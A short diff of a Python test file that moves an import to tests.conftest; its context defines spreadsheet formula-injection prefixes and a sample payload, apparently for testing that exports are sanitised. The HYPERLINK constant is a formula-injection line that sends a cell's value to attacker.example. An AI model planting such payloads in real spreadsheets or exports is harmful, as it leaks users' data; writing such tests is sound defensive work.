@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.test_import import desk_app, form, write_jsonl
+from tests.conftest import desk_app, form, write_jsonl
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A2,"Click for details")'
